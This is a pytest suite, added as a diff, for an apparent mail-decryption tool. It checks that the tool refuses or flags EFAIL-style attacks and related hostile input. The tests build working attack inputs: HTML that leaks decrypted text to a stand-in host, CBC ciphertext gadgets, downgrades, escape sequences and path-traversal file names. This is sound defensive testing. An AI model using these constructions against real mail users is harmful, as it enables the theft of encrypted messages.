@@ -1,0 +1,633 @@
+"""The attacks on those who open sealed mail, each as a message: EFAIL (Poddebniak et al., USENIX Security 2018), "Johnny,
+you are fired!" (Müller et al., 2019), "Mailto: Me Your Secrets" (2020), and the older ones. None gets more than a refusal
+and an explanation."""
+
+import os
+import pathlib
+import pty
+import re
+import signal
+import subprocess
+
+import pytest
+
+from support import cms
+from support.command import Command
+from support.gnupg import GnuPgHome
+from support.mime import HEADER, armored, detached, multipart, pgp_mime, smime, text
+from support.smime import SmimeKeys
+from support.waiting import wait_for
+
+ALICE = "alice@example.com"
+BOB = "bob@example.org"
+SECRET = b"Attack at dawn."
+PAYLOAD = b"Content-Type: text/plain\r\n\r\n" + SECRET + b"\r\n"
+
+OPENED, NOT_SEALED, PARTLY, DAMAGED, NO_KEY = 0, 1, 2, 65, 77
+
+
+@pytest.fixture(scope="module")
+def smime_keys():
+    with SmimeKeys() as keys:
+        keys.make(BOB, "rsa2048")
+        yield keys
+
+
+@pytest.fixture
+def key_options(smime_keys, tmp_path):
+    key = tmp_path / "bob.key.pem"
+    key.write_bytes(smime_keys.key_of(BOB).read_bytes() + smime_keys.certificate_of(BOB).read_bytes())
+    key.chmod(0o600)
+    return ["--key", key]
+
+
+@pytest.fixture(scope="module")
+def sealed(bob_home):
+    """PGP/MIME to Bob, as one entity."""
+    return lambda payload=PAYLOAD: pgp_mime(bob_home.encrypt(payload, BOB))
+
+
+def cbc(smime_keys, payload):
+    return cms.openssl("cms", "-encrypt", "-aes256", "-binary", "-outform", "DER", smime_keys.certificate_of(BOB), input=payload)
+
+
+def gcm(smime_keys, payload):
+    return cms.openssl("cms", "-encrypt", "-aes-256-gcm", "-binary", "-outform", "DER", smime_keys.certificate_of(BOB),
+                       input=payload)
+
+
+def decrypt(lockbox, message, *options):
+    result = lockbox.run("decrypt", *options, input=message)
+    assert "terminate" not in result.err and result.status >= 0, result
+    return result
+
+
+def read(lockbox, message, *options):
+    return lockbox.run("read", *options, input=message)
+
+
+def is_refused(lockbox, message, *words, options=(), status=DAMAGED):
+    """Nothing is written, and the reason is said."""
+    result = decrypt(lockbox, message, *options)
+    assert (result.status, result.out) == (status, b""), result
+    for word in words:
+        assert word in result.err, (word, result)
+    shown = read(lockbox, message, *options)
+    assert shown.status == status, shown
+    assert SECRET not in shown.out
+    return result
+
+
+# --- EFAIL, direct exfiltration: what is opened becomes part of an address that a mail program asks for ---
+
+IMG_OPEN = text(b'<img src="http://efail.example/', b"html")
+IMG_CLOSE = text(b'">', b"html")
+
+
+@pytest.mark.parametrize("subtype", [b"mixed", b"related", b"alternative", b"digest", b"parallel"])
+@pytest.mark.parametrize("before, after", [(IMG_OPEN, IMG_CLOSE), (None, IMG_CLOSE), (IMG_OPEN, None)])
+def test_sealed_part_between_html(lockbox, sealed, subtype, before, after):
+    """The first part opens an attribute, the last closes it; a program that puts the parts together sends the text."""
+    parts = [part for part in (before, sealed(), after) if part]
+    message = HEADER + multipart(subtype, *parts)
+    result = decrypt(lockbox, message)
+    if subtype == b"digest":  # its parts are messages unless they say otherwise (RFC 2046 §5.1.5)
+        assert SECRET not in result.out
+        return
+    assert result.status == PARTLY, result
+    assert SECRET not in result.out and b"efail.example" not in result.out
+    assert "partly sealed" in result.err and "markup" in result.err
+    shown = read(lockbox, message)
+    assert shown.status == PARTLY and b"PARTLY SEALED" in shown.out
+    own = shown.out[shown.out.index(b"\nPart "):]
+    assert SECRET in own and b"efail" not in own
+
+
+def test_sealed_part_between_html_in_smime(lockbox, smime_keys, key_options):
+    """The same with S/MIME, whose EnvelopedData is one part."""
+    message = HEADER + multipart(b"mixed", IMG_OPEN, smime(cbc(smime_keys, PAYLOAD)), IMG_CLOSE)
+    result = decrypt(lockbox, message, *key_options)
+    assert (result.status, result.out) == (PARTLY, b""), result
+
+
+def test_sealed_part_of_an_outer_message_in_html(lockbox, sealed):
+    """The markup stands in another branch of the tree, and the sealed part in a forwarded message."""
+    forwarded = b"Content-Type: message/rfc822\n\n" + HEADER + sealed()
+    message = HEADER + multipart(b"mixed", multipart(b"alternative", text(b"x"), IMG_OPEN, boundary=b"aa"), forwarded, IMG_CLOSE)
+    result = decrypt(lockbox, message)
+    assert (result.status, result.out) == (PARTLY, b""), result
+
+
+def test_a_part_alone_can_be_had(lockbox, sealed):
+    """What is refused beside markup is there for whoever asks for it by itself."""
+    message = HEADER + multipart(b"mixed", IMG_OPEN, sealed(), IMG_CLOSE)
+    result = decrypt(lockbox, message, "--part", "2")
+    assert result.status == PARTLY and SECRET in result.out and b"efail" not in result.out
+
+
+# --- EFAIL, gadgets: ciphertext that is changed without its key ---
+
+def test_cbc_gadget(lockbox, smime_keys, key_options):
+    """S/MIME: the first block is known ("Content-Type: te"). An attacker who XORs it into what he wants gets any block that
+    he likes, with one of random octets before each: here an image whose address takes in the rest."""
+    payload = b"Content-Type: text/plain\r\n\r\n" + SECRET + b" " + b"x" * 200 + b"\r\n"
+    octets = cbc(smime_keys, payload)
+    known = payload[:16]
+    # The IV stands in front of the ciphertext: [0] IMPLICIT OCTET STRING, behind OCTET STRING of 16 octets.
+    size = (len(payload) // 16 + 1) * 16
+    ciphertext = octets[-size:]
+    iv_at = octets.rindex(b"\x04\x10", 0, len(octets) - size) + 2
+    iv = octets[iv_at:iv_at + 16]
+
+    def gadget(wanted):
+        """Two blocks that decrypt to 16 random octets and the wanted ones."""
+        assert len(wanted) == 16
+        block = bytes(a ^ b ^ c for a, b, c in zip(iv, known, wanted))
+        return block + ciphertext[:16]
+
+    html = [b"Content-Type: te", b'xt/html\n\n<img x=', b'" src="http://e/', b'?               ']
+    attack = b"".join(gadget(block) for block in html) + ciphertext
+    # The first gadget's first block is the new IV.
+    message = HEADER + smime(_with_ciphertext(octets, attack[:16], attack[16:]))
+    result = is_refused(lockbox, message, options=key_options)
+    assert "changes a message on its way" in result.err
+
+
+def _with_ciphertext(octets, iv, ciphertext):
+    """EnvelopedData again with these, its lengths right."""
+    kind, explicit = list(cms.split(cms.contents(octets)))
+    version, recipients, encrypted = list(cms.split(cms.contents(cms.contents(explicit))))[:3]
+    data_type, algorithm, _ = list(cms.split(cms.contents(encrypted)))
+    oid, _ = list(cms.split(cms.contents(algorithm)))
+    encrypted = cms.sequence(data_type, cms.sequence(oid, cms.tlv(0x04, iv)), cms.tlv(0x80, ciphertext))
+    return cms.sequence(kind, cms.tlv(0xa0, cms.sequence(version, recipients, encrypted)))
+
+
+def test_cfb_gadget(lockbox, bob_home):
+    """OpenPGP's CFB can be changed in the same way; the MDC at its end says so."""
+    packets = bytearray(bob_home.encrypt(PAYLOAD + b"x" * 500, BOB, armor=False))
+    for at in range(len(packets) - 300, len(packets) - 284):
+        packets[at] ^= 0x20
+    is_refused(lockbox, HEADER + pgp_mime(armored(bytes(packets))), "not opened")
+
+
+@pytest.mark.parametrize("name", ["no-mdc.bin", "sed.bin"])
+def test_without_integrity_protection(tmp_path, name):
+    """The MDC stripped, and the packet of RFC 2440 that never has one, with the right session key."""
+    from support import places
+    folder = places.SOURCE / "tests" / "data" / "openpgp"
+    with GnuPgHome() as home:
+        home.import_key((folder / "alice.secret.asc").read_bytes())
+        command = Command(tmp_path, home)
+        is_refused(command, HEADER + pgp_mime(armored((folder / name).read_bytes())), "not opened")
+
+
+def _packets(octets):
+    """Offset, tag and whole packet, old and new format with definite lengths."""
+    at = 0
+    while at < len(octets):
+        first = octets[at]
+        if first & 0x40:
+            tag, length_at = first & 0x3f, at + 1
+            one = octets[length_at]
+            if one < 192:
+                length, body = one, length_at + 1
+            elif one < 224:
+                length, body = ((one - 192) << 8) + octets[length_at + 1] + 192, length_at + 2
+            else:
+                assert one == 255
+                length, body = int.from_bytes(octets[length_at + 1:length_at + 5], "big"), length_at + 5
+        else:
+            tag, size = (first >> 2) & 0xf, 1 << (first & 3)
+            length, body = int.from_bytes(octets[at + 1:at + 1 + size], "big"), at + 1 + size
+        yield tag, octets[body:body + length], octets[at:body + length]
+        at = body + length
+
+
+def _sealed_packets(bob_home):
+    octets = bob_home.encrypt(PAYLOAD, BOB, armor=False)
+    (pkesk_tag, _, pkesk), (tag, body, _) = list(_packets(octets))
+    assert (pkesk_tag, tag) == (1, 18)
+    return pkesk, body
+
+
+def _packet(tag, body):
+    return bytes([0xC0 | tag, 0xFF]) + len(body).to_bytes(4, "big") + body
+
+
+def test_wrong_mdc(lockbox, bob_home):
+    pkesk, body = _sealed_packets(bob_home)
+    is_refused(lockbox, HEADER + pgp_mime(armored(pkesk + _packet(18, body[:-1] + bytes([body[-1] ^ 1])))), "not opened")
+
+
+def test_cut_mdc(lockbox, bob_home):
+    pkesk, body = _sealed_packets(bob_home)
+    is_refused(lockbox, HEADER + pgp_mime(armored(pkesk + _packet(18, body[:-22]))), "not opened")
+
+
+def test_relabelled_as_unprotected(lockbox, bob_home):
+    """SEIPD without its version octet is a packet 9, but for how CFB begins anew: the downgrade of EFAIL §5.2."""
+    pkesk, body = _sealed_packets(bob_home)
+    is_refused(lockbox, HEADER + pgp_mime(armored(pkesk + _packet(9, body[1:]))), "without integrity protection")
+
+
+def test_gcm_relabelled_as_cbc(lockbox, smime_keys, key_options):
+    """RFC 9709 §1: AuthEnvelopedData as EnvelopedData with CBC gives garbage that depends on the secret."""
+    octets = gcm(smime_keys, PAYLOAD + b"x" * 160 + b"\r\n")
+    explicit = list(cms.split(cms.contents(octets)))[1]
+    fields = list(cms.split(cms.contents(cms.contents(explicit))))
+    version, recipients, encrypted = fields[0], fields[1], fields[2]
+    data_type, _, content = list(cms.split(cms.contents(encrypted)))
+    blocks = cms.contents(content)
+    for iv in (bytes(16), b"\xff" * 16):
+        algorithm = cms.sequence(cms.oid(cms.AES_256_CBC), cms.tlv(0x04, iv))
+        enveloped = cms.sequence(cms.oid("2a864886f70d010703"), cms.tlv(0xa0, cms.sequence(
+            version, recipients, cms.sequence(data_type, algorithm, cms.tlv(0x80, blocks[:len(blocks) // 16 * 16])))))
+        is_refused(lockbox, HEADER + smime(enveloped), options=key_options)
+
+
+def test_aead_in_enveloped_data(lockbox, smime_keys, key_options):
+    """GCM in a container that has no place for its tag."""
+    octets = gcm(smime_keys, PAYLOAD)
+    explicit = list(cms.split(cms.contents(octets)))[1]
+    version, recipients, encrypted = list(cms.split(cms.contents(cms.contents(explicit))))[:3]
+    enveloped = cms.sequence(cms.oid("2a864886f70d010703"), cms.tlv(0xa0, cms.sequence(version, recipients, encrypted)))
+    is_refused(lockbox, HEADER + smime(enveloped), options=key_options)
+
+
+@pytest.mark.parametrize("octets_of_tag", [0, 1, 4, 8, 11])
+def test_short_tag(lockbox, smime_keys, key_options, octets_of_tag):
+    """A tag of one octet is guessed in 256 tries."""
+    octets = gcm(smime_keys, PAYLOAD)
+    kind, explicit = list(cms.split(cms.contents(octets)))
+    *fields, tag = list(cms.split(cms.contents(cms.contents(explicit))))
+    short = cms.sequence(kind, cms.tlv(0xa0, cms.sequence(*fields, cms.tlv(0x04, cms.contents(tag)[:octets_of_tag]))))
+    is_refused(lockbox, HEADER + smime(short, b"authEnveloped-data"), options=key_options)
+
+
+# --- Structure ---
+
+def test_text_before_and_behind_the_armor(lockbox, bob_home):
+    """Readable text around armor looks as if it had been sealed, too."""
+    armor = bob_home.encrypt(SECRET, BOB)
+    for message in (b"Dear Bob,\n\n" + armor, armor + b"\nPS: pay the bill at http://evil.example\n"):
+        result = decrypt(lockbox, HEADER + b"\n" + message)
+        assert (result.status, result.out) == (PARTLY, b""), result
+        assert "part 1#1" in result.err
+        shown = read(lockbox, HEADER + b"\n" + message)
+        assert shown.out.index(b"PARTLY SEALED") < shown.out.index(b"\nPart 1#1") < shown.out.index(SECRET)
+
+
+def test_two_armors_in_one_text(lockbox, bob_home):
+    """The second was written by somebody else."""
+    message = HEADER + b"\n" + bob_home.encrypt(b"one", BOB) + bob_home.encrypt(b"two", BOB)
+    result = decrypt(lockbox, message)
+    assert (result.status, result.out) == (PARTLY, b""), result
+    assert "part 1#1" in result.err and "part 1#2" in result.err
+    assert decrypt(lockbox, message, "--part", "1#2").out.endswith(b"\n\ntwo")
+
+
+def test_armor_in_html(lockbox, bob_home):
+    message = HEADER + text(b'<img src="http://efail.example/\n' + bob_home.encrypt(SECRET, BOB) + b'">', b"html")
+    is_refused(lockbox, message, "inside of markup")
+
+
+def test_third_part(lockbox, sealed):
+    """PGP/MIME has two parts; what a third says was not sealed."""
+    body = sealed().replace(b"--b1--\n", b"--b1\n" + text(b"not sealed") + b"\n--b1--\n")
+    is_refused(lockbox, HEADER + body, "3 parts and not 2")
+
+
+@pytest.mark.parametrize("preamble, epilogue", [(b"x" * 300 + b"\n", b""), (b"", b"pay at http://evil.example\n")])
+def test_text_around_the_parts(lockbox, bob_home, preamble, epilogue):
+    body = multipart(b'encrypted; protocol="application/pgp-encrypted"',
+                     b"Content-Type: application/pgp-encrypted\n\nVersion: 1\n",
+                     b"Content-Type: application/octet-stream\n\n" + bob_home.encrypt(PAYLOAD, BOB),
+                     preamble=preamble, epilogue=epilogue)
+    is_refused(lockbox, HEADER + body, "text stands beside its parts")
+
+
+def test_another_protocol(lockbox, sealed):
+    is_refused(lockbox, HEADER + sealed().replace(b"application/pgp-encrypted", b"application/x-mine", 1), "application/x-mine")
+
+
+def test_two_content_type_fields(lockbox, sealed):
+    """One reader takes the first, another the last."""
+    is_refused(lockbox, HEADER + b"Content-Type: text/html\n" + sealed(), "two Content-Type fields")
+
+
+def test_boundary_injected_by_the_sealed_part(lockbox, sealed):
+    """What was sealed has a line that is the delimiter outside: put in its place, it would end its part and begin another."""
+    inside = PAYLOAD + b"--bb\r\nContent-Type: text/html\r\n\r\n<img src='http://efail.example/'>\r\n"
+    result = decrypt(lockbox, HEADER + multipart(b"mixed", sealed(inside), text(b"footer")))
+    assert (result.status, result.out) == (PARTLY, b""), result
+    assert "tear the message apart" in result.err
+
+
+def test_boundary_injected_outside(lockbox, sealed):
+    """A part whose boundary is that of the multipart around it: only the outer one counts, so nothing sealed is left."""
+    result = decrypt(lockbox, HEADER + multipart(b"mixed", sealed().replace(b"b1", b"bb"), text(b"footer")))
+    assert SECRET not in result.out or result.status == PARTLY
+    assert result.status in (NOT_SEALED, PARTLY, DAMAGED)
+
+
+# --- Signatures ---
+
+def signature_of(home, entity, *options):
+    return home.run("--armor", "--detach-sign", *options, input=entity)
+
+
+@pytest.fixture(scope="module")
+def signers():
+    """Alice, and Mallory who signs as himself."""
+    with GnuPgHome() as home:
+        yield home, home.generate(f"Alice <{ALICE}>"), home.generate("Mallory <mallory@example.net>")
+
+
+@pytest.fixture
+def trusting(tmp_path, bob_home, signers):
+    """The command as Bob runs it where he has verified both certificates."""
+    home, *fingerprints = signers
+    with GnuPgHome() as own:
+        own.import_key(bob_home.export_secret(BOB) + home.export(fingerprints[0]) + home.export(fingerprints[1]))
+        own._write("gpg.conf", "batch", "no-tty", "trust-model pgp", "no-auto-key-locate")
+        own.run("--import-ownertrust", input="".join(f"{fingerprint}:6:\n" for fingerprint in fingerprints).encode())
+        yield Command(tmp_path, own)
+
+
+ENTITY = b"Content-Type: text/plain\r\n\r\nsigned\r\n"
+
+
+def lf(octets):
+    return octets.replace(b"\r\n", b"\n")
+
+
+def signed(home, fingerprint, entity=ENTITY):
+    return detached(lf(entity), signature_of(home, entity, "--local-user", fingerprint))
+
+
+def states(result):
+    return [(signature["state"], signature["proves_sender"]) for signature in result.json["signatures"]]
+
+
+def test_signature_of_the_whole(trusting, signers):
+    home, alice, mallory = signers
+    assert states(read(trusting, HEADER + signed(home, alice), "--json")) == [("good", True)]
+    by_mallory = read(trusting, HEADER + signed(home, mallory), "--json")
+    assert states(by_mallory) == [("good", False)]
+    assert "NOT the address in From" in read(trusting, HEADER + signed(home, mallory)).text
+
+
+def test_signature_of_a_part(trusting, signers):
+    """The signed part is Alice's; the attacker's stands above it, and looks as if it were signed, too."""
+    home, alice, _ = signers
+    message = HEADER + multipart(b"mixed", text(b"Pay Mallory."), signed(home, alice))
+    result = read(trusting, message, "--json")
+    assert result.json["signatures"] == []
+    assert [part["number"] for part in result.json["parts"]] == ["2"]
+    shown = read(trusting, message).text
+    assert "Signature:" not in shown[:shown.index("\nPart 2")]
+
+
+def test_signature_of_another_text(trusting, signers):
+    home, alice, _ = signers
+    message = HEADER + signed(home, alice).replace(b"\nsigned\n", b"\nforged\n")
+    assert states(read(trusting, message, "--json")) == [("bad", False)]
+    assert "BAD signature" in read(trusting, message).text
+
+
+def test_signature_around_the_encryption(trusting, signers, sealed):
+    """Mallory takes what was sealed for Bob and signs it: that he knew what is inside is not said."""
+    home, alice, _ = signers
+    inner = sealed()
+    message = HEADER + detached(inner, signature_of(home, inner.replace(b"\n", b"\r\n"), "--local-user", alice))
+    result = read(trusting, message, "--json")
+    assert result.status == OPENED, result
+    assert [(s["state"], s["is_around_encryption"], s["proves_sender"]) for s in result.json["signatures"]] == \
+        [("good", True, False)]
+
+
+def test_certificate_states(tmp_path, bob_home):
+    """Unknown, expired and revoked certificates, each said as what it is."""
+    with GnuPgHome() as home, GnuPgHome() as reader:
+        expired = home.generate(f"Alice <{ALICE}>", expire="30d", faked_time="2020-01-02")
+        old = home.run("--armor", "--detach-sign", "--local-user", expired, input=ENTITY, faked_time="2020-01-03")
+        revoked = home.generate("Alice <alice2@example.com>")
+        before = signature_of(home, ENTITY, "--local-user", revoked)
+        unknown = home.generate("Alice <alice3@example.com>")
+        never_seen = signature_of(home, ENTITY, "--local-user", unknown)
+        home.revoke(revoked)
+        reader.import_key(home.export(expired) + home.export(revoked))
+        command = Command(tmp_path, reader)
+        for signature, state, words in ((old, "expired", "EXPIRED"), (before, "revoked", "REVOKED"),
+                                        (never_seen, "unknown", "unknown certificate")):
+            message = HEADER + detached(lf(ENTITY), signature)
+            assert states(read(command, message, "--json")) == [(state, False)], state
+            assert words in read(command, message).text
+
+
+def test_nobody_vouches(tmp_path):
+    """Anybody can make a certificate in Alice's name. Without a path of trust to it, that is said."""
+    with GnuPgHome() as home, GnuPgHome() as reader:
+        signature = signature_of(home, ENTITY, "--local-user", home.generate(f"Alice <{ALICE}>"))
+        reader._write("gpg.conf", "batch", "no-tty", "trust-model pgp", "no-auto-key-locate")
+        reader.import_key(home.export(ALICE))
+        command = Command(tmp_path, reader)
+        message = HEADER + detached(lf(ENTITY), signature)
+        assert states(read(command, message, "--json")) == [("unvouched", False)]
+        assert "nobody vouches" in read(command, message).text
+
+
+# --- Header fields ---
+
+def fields_of(result):
+    return result.out.partition(b"\n\n")[0]
+
+
+def test_fields_smuggled_without_protection(lockbox, sealed):
+    """Who seals a message does not thereby get to write its header section."""
+    result = decrypt(lockbox, HEADER + sealed(b"From: ceo@example.com\r\nSubject: pay\r\n" + PAYLOAD))
+    assert result.status == OPENED
+    assert b"ceo@example.com" not in fields_of(result) and b"Subject: outside" in fields_of(result)
+
+
+def test_fields_of_a_part_that_is_not_the_root(lockbox, sealed):
+    """RFC 9788 §2.1.1: hp counts at the root of the Cryptographic Payload alone."""
+    protected = b'Subject: pay\nContent-Type: text/plain; hp="cipher"\n\n' + SECRET
+    inside = multipart(b"mixed", protected).replace(b"\n", b"\r\n")
+    result = decrypt(lockbox, HEADER + sealed(inside))
+    assert b"Subject: outside" in fields_of(result) and b"Subject: pay" not in fields_of(result)
+    part = decrypt(lockbox, HEADER + multipart(b"mixed", sealed(protected.replace(b"\n", b"\r\n")), text(b"footer")))
+    assert part.status == PARTLY
+    assert b"Subject: outside" in fields_of(part) and b"Subject: pay" not in part.out
+
+
+def test_protected_fields_of_a_message_that_is_not_sealed(lockbox):
+    """A phony protection: nothing says who wrote it."""
+    message = HEADER + b'Content-Type: multipart/mixed; hp="cipher"; boundary=x\n\n--x\nSubject: pay\n\nx\n--x--\n'
+    assert decrypt(lockbox, message).status == NOT_SEALED
+    shown = read(lockbox, message)
+    assert b"NOT SEALED" in shown.out and b"Subject:    outside" in shown.out
+
+
+def test_from_that_differs(lockbox, sealed):
+    """RFC 9788 §4.4: the outer From, which the mail system knows, and a warning."""
+    inside = b"From: ceo@example.com\r\nContent-Type: text/plain; hp=\"cipher\"\r\n\r\n" + SECRET + b"\r\n"
+    result = decrypt(lockbox, HEADER + sealed(inside))
+    assert b"From: Alice <alice@example.com>" in fields_of(result) and b"ceo@" not in result.out
+    assert "ceo@example.com" in result.err and "warning" in result.err
+    assert "ceo@example.com" in read(lockbox, HEADER + sealed(inside)).text
+
+
+# --- Too much of everything ---
+
+def test_decompression_bomb(lockbox, bob_home):
+    """A quarter of a megabyte becomes 200."""
+    bomb = bob_home.run("--compress-algo", "zlib", "-z", "9", "--armor", "--recipient", BOB, "--encrypt",
+                        input=b"Content-Type: text/plain\r\n\r\n" + bytes(200 << 20))
+    assert len(bomb) < 1 << 20
+    is_refused(lockbox, HEADER + pgp_mime(bomb), "bomb")
+
+
+def test_sealed_twenty_times(lockbox, sealed):
+    entity = PAYLOAD
+    for _ in range(20):
+        entity = sealed(entity).replace(b"\n", b"\r\n")
+    result = decrypt(lockbox, HEADER + entity.replace(b"\r\n", b"\n"))
+    assert SECRET not in result.out
+    assert "more than 8 layers" in result.err
+
+
+def test_ten_thousand_parts(lockbox):
+    is_refused(lockbox, HEADER + multipart(b"mixed", *[text(b"x")] * 10_000), "more than 1000 parts")
+
+
+def test_a_thousand_levels(lockbox):
+    entity = text(b"x")
+    for level in range(1000):
+        boundary = b"level%d." % level
+        entity = (b"Content-Type: multipart/mixed; boundary=" + boundary + b"\n\n--" + boundary + b"\n" + entity + b"\n--" +
+                  boundary + b"--\n")
+    is_refused(lockbox, HEADER + entity, "more than 32 deep")
+
+
+def test_a_thousand_levels_inside(lockbox, sealed):
+    entity = PAYLOAD
+    for level in range(100):
+        boundary = b"level%d." % level
+        entity = (b"Content-Type: multipart/mixed; boundary=" + boundary + b"\r\n\r\n--" + boundary + b"\r\n" + entity +
+                  b"\r\n--" + boundary + b"--\r\n")
+    result = decrypt(lockbox, HEADER + sealed(entity))
+    assert SECRET not in result.out and "more than 32 deep" in result.err
+
+
+# --- The terminal and the file system ---
+
+ESCAPES = b"\x1b]0;owned\x07\x1b[2J\xe2\x80\xae\xc2\x9b31m"
+BAD = re.compile(rb"[\x00-\x08\x0b-\x1f\x7f]|\xc2[\x80-\x9f]|\xe2\x80[\xa8-\xae]|\xe2\x81[\xa6-\xa9]")
+
+
+def test_escape_sequences(lockbox, sealed):
+    """In the Subject, in a name, in a file name, in the text: shown as nothing that a terminal or an eye obeys."""
+    hidden = b"=?utf-8?q?=1B=5D0=3Bowned=07=E2=80=AE?="
+    header = (b"From: " + hidden + b" <alice@example.com>\nTo: bob@example.org\nSubject: " + ESCAPES + hidden +
+              b"\nMIME-Version: 1.0\n")
+    attachment = b'Content-Type: application/x-' + ESCAPES + b'\nContent-Disposition: attachment; filename="' + ESCAPES + \
+        b'.txt"\n\nx'
+    inside = multipart(b"mixed", text(ESCAPES), attachment).replace(b"\n", b"\r\n")
+    for message in (header + sealed(inside), header + multipart(b"mixed", text(ESCAPES), attachment)):
+        shown = read(lockbox, message)
+        assert shown.status == OPENED
+        assert not BAD.search(shown.out.replace(b"\n", b"")), shown.out
+        assert not BAD.search(decrypt(lockbox, message).err.replace("\n", "").encode())
+    refused = decrypt(lockbox, header + sealed().replace(b"application/pgp-encrypted", b"x/" + ESCAPES, 1))
+    assert not BAD.search(refused.err.replace("\n", "").encode())
+
+
+def on_a_terminal(lockbox, *arguments):
+    """What the command writes to a terminal that has 60 columns."""
+    leader, follower = pty.openpty()
+    subprocess.run(["stty", "cols", "60"], stdin=follower, check=True)
+    process = subprocess.Popen([lockbox.program, *map(str, arguments)], stdin=subprocess.DEVNULL, stdout=follower,
+                               stderr=subprocess.DEVNULL, env={**lockbox.environment(), "TERM": "xterm"})
+    os.close(follower)
+    octets = b""
+    while True:
+        try:
+            piece = os.read(leader, 65536)
+        except OSError:  # how Linux says that the other side is closed
+            break
+        if not piece:
+            break
+        octets += piece
+    os.close(leader)
+    process.wait(timeout=60)
+    return octets
+
+
+def test_on_a_terminal(lockbox, sealed):
+    """Only colours of ours; and no line of the text begins where ours do, however it is broken."""
+    forged = b"Protection: sealed, and unchanged since"
+    body = b"".join(b"x" * filler + forged + b"\r\n" for filler in range(50, 64)) + ESCAPES + b"\r\n"
+    message = lockbox.file("message.eml", HEADER + sealed(b"Content-Type: text/plain\r\n\r\n" + body))
+    octets = on_a_terminal(lockbox, "read", message)
+    assert b"\x1b[1;32mProtection:" in octets
+    plain = re.sub(rb"\x1b\[[0-9;]*m", b"", octets).replace(b"\r\n", b"\n")
+    assert not BAD.search(plain.replace(b"\n", b""))
+    lines = plain.decode().split("\n")
+    assert sum(line.startswith("Protection:") for line in lines) == 1
+    assert max(map(len, lines)) <= 60
+    assert b"\x1b" not in on_a_terminal(lockbox, "decrypt", message)
+
+
+@pytest.mark.parametrize("name", ["../../evil", "/tmp/evil", "..", ".bashrc", "-rf", "a\\..\\evil", "evil\u202efdp.exe"])
+def test_names_that_leave_the_folder(lockbox, tmp_path, sealed, name):
+    folder = tmp_path / "attachments"
+    folder.mkdir()
+    attachment = (b"Content-Type: application/octet-stream\r\nContent-Disposition: attachment; filename=\"" +
+                  name.encode() + b"\"\r\n\r\nharm")
+    inside = multipart(b"mixed", b"\r\ntext", attachment).replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")
+    before = {path for path in tmp_path.rglob("*")}
+    result = read(lockbox, HEADER + sealed(inside), "--save-attachments", folder)
+    assert result.status == OPENED, result
+    made = {path for path in tmp_path.rglob("*")} - before
+    saved = [path for path in made if path.parent == folder]
+    assert made == set(saved) and len(saved) == 1
+    assert saved[0].read_bytes() == b"harm" and saved[0].name[0] not in ".-" and "\u202e" not in saved[0].name
+    again = read(lockbox, HEADER + sealed(inside), "--save-attachments", folder)
+    assert again.status == OPENED and len(list(folder.iterdir())) == 2  # nothing was overwritten
+
+
+# --- Keys ---
+
+def test_sealed_to_somebody_else(lockbox, carol_home):
+    is_refused(lockbox, HEADER + pgp_mime(carol_home.encrypt(PAYLOAD, "carol@example.org")), "no secret key", status=NO_KEY)
+
+
+def gpg_of(home):
+    """The process that decrypts in this home."""
+    for process in pathlib.Path("/proc").glob("[0-9]*"):
+        try:
+            command = (process / "cmdline").read_bytes().split(b"\0")
+            environment = (process / "environ").read_bytes().split(b"\0")
+        except OSError:
+            continue
+        if command[0].endswith(b"gpg") and b"--decrypt" in command and b"GNUPGHOME=" + home.path.encode() in environment:
+            return int(process.name)
+    return None
+
+
+def test_gpg_killed_behind_some_plaintext(tmp_path, bob_home):
+    """gpg hands out what it decrypts while it goes on. Killed in the middle, what it wrote is not shown."""
+    payload = b"Content-Type: text/plain\r\n\r\n" + (SECRET + b"\r\n") * 4_000_000
+    message = tmp_path / "large.eml"
+    message.write_bytes(HEADER + pgp_mime(bob_home.encrypt(payload, BOB)))
+    with GnuPgHome() as home:
+        home.import_key(bob_home.export_secret(BOB))
+        command = Command(tmp_path, home)
+        with subprocess.Popen([command.program, "decrypt", message], stdout=subprocess.PIPE, stderr=subprocess.PIPE,
+                              env=command.environment()) as process:
+            os.kill(wait_for(lambda: gpg_of(home), "gpg at work"), signal.SIGKILL)
+            out, err = process.communicate(timeout=120)
+        assert process.returncode == DAMAGED and out == b"", (process.returncode, err)
+        assert b"not opened" in err
